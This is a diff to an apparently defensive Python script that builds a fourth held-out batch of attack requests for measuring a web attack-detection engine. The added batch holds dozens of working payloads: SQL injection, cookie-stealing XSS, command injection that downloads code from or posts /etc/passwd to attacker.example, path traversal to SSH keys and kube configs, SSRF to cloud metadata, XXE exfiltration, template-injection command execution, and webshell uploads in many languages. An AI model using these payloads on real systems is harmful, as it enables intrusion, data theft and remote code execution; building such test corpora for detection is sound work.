@@ -1169,6 +1169,214 @@ BATCH3 = {"sqli": sqli3, "xss": xss3, "cmdi": cmdi3, "lfi": lfi3, "rfi_ssrf": rf
           "ssti": ssti3, "webshell": webshell3, "scanner": scanner3, "protocol": protocol3}
 
 
+# ------------------------------------------------------------------ batch 4
+# Written in session 2 against the engine tuned on batches 1-3, measured
+# before it was committed (docs/PERFORMANCE.md, "Held-out batch 4, session 2").
+# Techniques, contexts and carriers the earlier batches do not hold.
+def sqli4():
+    return [
+        Q("/api/orders", "sort", "(case when (select substr(version(),1,1))='8' then created_at else id end)"),
+        Q("/api/list", "limit", "10 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
+        Q("/api/items", "field", "$.color')) union select password from users -- -"),
+        Q("/api/users", "name", "admin' and (select count(u) from User u where u.password like 'a%')>0 and ''='"),
+        Q("/item", "id", "1 and 1=cast((select string_agg(table_name,',') from information_schema.tables) as int)"),
+        Q("/item", "id", "1 and 1=utl_inaddr.get_host_name((select user from dual))"),
+        Q("/item", "id", "1 and 1=dbms_pipe.receive_message('x',10)"),
+        Q("/item", "id", "1 and 1=randomblob(500000000)"),
+        F("/feedback", "ref", "1; select * from openrowset('SQLOLEDB','server=attacker.example;uid=sa;pwd=x','select 1')--"),
+        Q("/stats", "table", "events union all select name, engine from system.tables format TSV"),
+        C("/", "prefs=" + enc(json.dumps({"sort": "price desc, (select 1 from dual where sleep(3))"}))),
+        J("/graphql", {"query": "query($s:String){products(orderBy:$s){id}}",
+                       "variables": {"s": "name; select pg_sleep(10)--"}}),
+        Q("/item", "id", "0.1e1union select 1,user(),3"),
+        F("/register", "email", "a@b.c', 'x') on duplicate key update password='pwned' -- ",
+          [("name", "bob")]),
+        H("/api/v1/me", "Accept-Language", "zh-CN' and extractvalue(1,concat(0x7e,(select @@version)))-- "),
+    ]
+
+
+def xss4():
+    return [
+        Q("/s", "q", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>go</text></a></svg>"),
+        Q("/s", "q", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>"),
+        F("/theme", "css", "</style><script>alert(document.domain)</script>"),
+        F("/theme", "color", "red;background-image:url(\"javascript:alert(1)\")"),
+        Q("/s", "q", "`-alert(document.cookie)-`"),
+        Q("/s", "q", "';\\u0061lert(document.cookie)//"),
+        Q("/s", "q", "<xss oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>"),
+        Q("/s", "q", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
+        Q("/s", "q", "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"alert(1)\">"),
+        F("/comment", "body", "<svg><discard onbegin=alert(1)>"),
+        Q("/s", "q", "<style>@import '//attacker.example/x.css';</style>"),
+        J("/api/v1/profile", {"nickname": "bob", "website": "javascript://%0aalert(document.cookie)"}, method="PUT"),
+        Q("/s", "q", "<video><source onerror=\"alert(1)\"></video>"),
+        Q("/s", "q", "<body onpageshow=alert(1)>"),
+        F("/comment", "body", "<form id=config><input name=apiUrl value=\"//attacker.example/c\"></form>"),
+    ]
+
+
+def cmdi4():
+    return [
+        Q("/tools/fetch", "url", "http://attacker.example/s.txt -o /var/www/html/s.php"),
+        Q("/tools/ssh-check", "host", "-oProxyCommand=sh -c 'id>/tmp/x' x"),
+        Q("/search/files", "name", "*.log -exec /bin/sh -c id {} ;"),
+        F("/contact", "from", "\"attacker\\\" -oQ/tmp/ -X/var/www/html/s.php  x\"@example.com",
+          [("msg", "hi")]),
+        Q("/tools/mirror", "url", "--post-file=/etc/passwd http://attacker.example/"),
+        J("/api/v1/backup", {"dest": "backup@10.0.0.9:/b", "opts": "-e 'sh -c id'"}),
+        Q("/tools/ping", "host", "127.0.0.1;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd"),
+        Q("/tools/ping", "host", "x;$'\\x69\\x64'"),
+        Q("/win/ping", "host", "127.0.0.1 & mshta http://attacker.example/x.hta"),
+        Q("/win/ping", "host", "127.0.0.1 & bitsadmin /transfer j http://attacker.example/a.exe C:\\Users\\Public\\a.exe"),
+        F("/calc", "expr", "__import__('os').system('id')"),
+        Q("/tools/ping", "host", "127.0.0.1%0a/usr/bin/id", e=None),
+    ]
+
+
+def lfi4():
+    return [
+        P("/static../etc/passwd"),
+        P("/assets../config/database.yml"),
+        Q("/download", "file", "\\\\localhost\\c$\\windows\\win.ini"),
+        Q("/index.php", "page", "/var/lib/php/sessions/sess_9b1c6f0a"),
+        Q("/view", "template", "classpath:/application.yml"),
+        J("/api/v1/export", None, raw='{"file": "\\u002e\\u002e\\u002f\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc'
+          '\\u002fshadow"}'),
+        Q("/index.php", "page", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|"
+          "convert.iconv.UTF8.UTF7/resource=/etc/passwd"),
+        Q("/download", "file", "/home/ubuntu/.ssh/id_ed25519"),
+        RQ("/download", "file=%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
+        P("/;/..;/manager/html"),
+        Q("/download", "file", "../../../home/deploy/.kube/config"),
+        M("/api/v1/import", [("archive", "PK\u0003\u0004 data", "..\\..\\..\\inetpub\\wwwroot\\x.aspx",
+                              "application/octet-stream")]),
+    ]
+
+
+def rfi_ssrf4():
+    return [
+        Q("/fetch", "url", "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/"),
+        Q("/fetch", "url", "http://make-169.254.169.254-rebind-127.0.0.1-rr.1u.ms/"),
+        Q("/fetch", "url", "http://169-254-169-254.sslip.io/latest/meta-data/iam/"),
+        Q("/fetch", "url", "http://attacker.example\\@169.254.169.254/"),
+        Q("/fetch", "url", "http:/\\/127.0.0.1:8500/v1/agent/self"),
+        Q("/fetch", "url", "http://metadata/computeMetadata/v1/instance/service-accounts/default/token"),
+        Q("/fetch", "url", "http://192.0.0.192/latest/meta-data/"),
+        J("/api/v1/webhooks", {"name": "ci", "callback": "http://[::]:22/"}),
+        Q("/fetch", "url", "tftp://attacker.example/x"),
+        Q("/index.php", "lang", "ftp://anonymous@attacker.example/x.php"),
+        H("/latest/meta-data/", "Host", "169.254.169.254"),
+        F("/api/pdf", "html", "<iframe src=\"http://127.0.0.1:5984/_all_dbs\"></iframe>"),
+    ]
+
+
+def xxe4():
+    pre = '<?xml version="1.0" encoding="UTF-8"?>\n'
+    return [
+        XML("/api/xml/in", pre + '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+            'xsi:schemaLocation="urn:x http://attacker.example/s.xsd">1</r>'),
+        XML("/api/xml/in", pre + '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>'),
+        XML("/api/transform", pre + '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
+            '<xsl:template match="/"><xsl:value-of select="document(\'file:///etc/passwd\')"/></xsl:template>'
+            '</xsl:stylesheet>'),
+        XML("/api/transform", pre + '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
+            '<xsl:template match="/"><xsl:value-of select="unparsed-text(\'/etc/hostname\')"/></xsl:template>'
+            '</xsl:stylesheet>'),
+        XML("/api/xml/in", pre + '<!DOCTYPE a [<!ENTITY x SYSTEM "ftp://attacker.example:2121/d">]><a b="&x;"/>'),
+        XML("/api/v1/orders", pre + '<!DOCTYPE o [<!ENTITY s SYSTEM "file:///proc/self/environ">]><o><note>&s;'
+            '</note></o>', ctype="application/xml;charset=UTF-8"),
+        XML("/dav/docs/", pre + '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:">'
+            '<D:prop><D:displayname>&e;</D:displayname></D:prop></D:propfind>', method="PROPFIND"),
+        M("/books/upload", [("file", pre + '<!DOCTYPE package [<!ENTITY t SYSTEM "file:///etc/passwd">]>'
+                              '<package><metadata><title>&t;</title></metadata></package>', "content.opf",
+                              "application/oebps-package+xml")]),
+        M("/import/docx", [("file", pre + '<!DOCTYPE w:document [<!ENTITY % r SYSTEM "http://attacker.example/r.dtd">'
+                              '%r;]><w:document/>', "document.xml", "application/xml")]),
+        XML("/api/kml", pre + '<!DOCTYPE kml [<!ENTITY z SYSTEM "file:///c:/windows/win.ini">]><kml><Placemark>'
+            '<name>&z;</name></Placemark></kml>', ctype="application/vnd.google-earth.kml+xml"),
+    ]
+
+
+def ssti4():
+    return [
+        Q("/hello", "name", "${self.module.cache.util.os.system('id')}"),
+        Q("/hello", "name", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
+        Q("/hello", "name", "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance()"
+          ".getEngineByName('JavaScript').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}}"),
+        Q("/hello", "name", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
+        F("/tpl", "t", "#{function(){localLoad=global.process.mainModule.constructor._load;"
+          "sh=localLoad('child_process').exec('id')}()}"),
+        RQ("/render", "settings%5Bview%20options%5D%5BoutputFunctionName%5D=x%3Bprocess.mainModule.require("
+           "%27child_process%27).execSync(%27id%27)%3Bs"),
+        Q("/hello", "name", "{{define \"T1\"}}ONE{{end}}{{template \"T1\"}}"),
+        Q("/hello", "name", "{{settings.SECRET_KEY}}"),
+        Q("/hello", "name", "{{= global.process.mainModule.require('child_process').execSync('id') }}"),
+        Q("/hello", "name", "@{java.lang.Runtime.getRuntime().exec('id')}"),
+        F("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
+          "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ }", [("x", "1")]),
+        P("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"),
+    ]
+
+
+def webshell4():
+    shells = [
+        ("page.shtml", "text/html", "<!--#exec cmd=\"id\" -->"),
+        ("h.ashx", "text/plain", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H :"
+         " IHttpHandler { public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(\"cmd.exe\","
+         " \"/c \" + c.Request[\"c\"]); } public bool IsReusable { get { return false; } } }"),
+        ("v.cshtml", "text/plain", "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); }"),
+        ("t.cfm", "text/plain", "<cfexecute name=\"#url.cmd#\" timeout=\"5\" variable=\"o\"></cfexecute>"
+         "<cfoutput>#o#</cfoutput>"),
+        ("s.pl", "text/plain", "#!/usr/bin/perl\nprint \"Content-type: text/html\\n\\n\";\nprint `$ENV{QUERY_STRING}`;\n"),
+        ("s.lua", "text/plain", "ngx.say(io.popen(ngx.var.arg_c):read(\"*a\"))"),
+        ("i.pht", "text/plain", "<?= `$_GET[0]`; ?>"),
+        ("a.php7", "text/plain", "<?php $a='as'.'sert'; $a($_POST['x']); ?>"),
+        ("logo.gif", "image/gif", "GIF89a<script language=\"php\">system($_GET['c']);</script>"),
+        ("r.inc", "text/plain", "<?php $f=create_function('', $_POST['c']); $f(); ?>"),
+        ("db.asa", "text/plain", "<%execute(request(\"a\"))%>"),
+    ]
+    return [M("/api/v1/files", [("file", body, f, ctype)], boundary="----WebKitFormBoundaryB4%010d" % (i * 13))
+            for i, (f, ctype, body) in enumerate(shells)]
+
+
+def scanner4():
+    return [
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; Goby)"),
+        H("/", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0 Jaeles"),
+        H("/", "User-Agent", "Paros/3.2.13"),
+        H("/", "Referer", "http://cq1e3kq8a2kqs7bn3fv0x7y8p1rtm4aab.oast.fun"),
+        P("/.svn/wc.db"),
+        P("/.ftpconfig"),
+        P("/docker-compose.yml"),
+        P("/actuator/gateway/routes"),
+        P("/nacos/v1/auth/users", "pageNo=1&pageSize=9"),
+        P("/xxl-job-admin/toLogin"),
+        P("/jmx-console/"),
+        P("/.npmrc"),
+    ]
+
+
+def protocol4():
+    return [
+        with_headers("GET", "/", {"Content-Length": "44"}, "GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
+        with_headers("POST", "/api", {"Transfer-Encoding": "chunked"}, "FFFFFFFFFFFFFFFFF1\r\nhello\r\n0\r\n\r\n"),
+        with_headers("POST", "/api", {"Transfer-Encoding": "chunked, chunked"}, "0\r\n\r\n"),
+        with_headers("GET", "/files/big.iso", {"Range": "bytes=0-18446744073709551615"}),
+        with_headers("POST", "/api", {"Transfer_Encoding": "chunked", "Content-Length": "5"}, "0\r\n\r\n"),
+        with_headers("POST", "/api", {"Content-Length": "0x10"}, "0123456789abcdef"),
+        with_headers("GET", "/", {"X-Pad": "A" * 20000}),
+        with_headers("GET", "/", {"User-Agent": "Mozilla/5.0\u007f"}),
+        with_headers("POST", "/comment", {"Content-Type": "application/x-www-form-urlencoded; charset=utf-7",
+                                          "Content-Length": "28"}, "body=+ADw-script+AD4-x+ADw-/"),
+        with_headers("GET", "/chat", {"Upgrade": "websocket", "Connection": "Upgrade",
+                                      "Sec-WebSocket-Version": "1337", "Sec-WebSocket-Key": "dGhlIHNhbXBsZQ=="}),
+    ]
+
+
+BATCH4 = {"sqli": sqli4, "xss": xss4, "cmdi": cmdi4, "lfi": lfi4, "rfi_ssrf": rfi_ssrf4, "xxe": xxe4,
+          "ssti": ssti4, "webshell": webshell4, "scanner": scanner4, "protocol": protocol4}
+
+
 CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_ssrf", rfi_ssrf),
               ("xxe", xxe), ("ssti", ssti), ("webshell", webshell), ("scanner", scanner),
               ("protocol", protocol)]
@@ -1176,13 +1384,15 @@ CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_
 
 def main():
     out = sys.argv[1] if len(sys.argv) > 1 else OUT
-    # Batch 1 first, for all files, then batch 2, then 3: each batch's User-Agent
+    # Batch 1 first, for all files, then batch 2, then 3, then 4: each batch's User-Agent
     # rotation stays what it was when it was measured.
     first = [(name, fn()) for name, fn in CATEGORIES]
     for name, reqs in first:
         reqs += BATCH2[name]()
     for name, reqs in first:
         reqs += BATCH3[name]()
+    for name, reqs in first:
+        reqs += BATCH4[name]()
     for name, reqs in first:
         seen = set()
         for r in reqs:
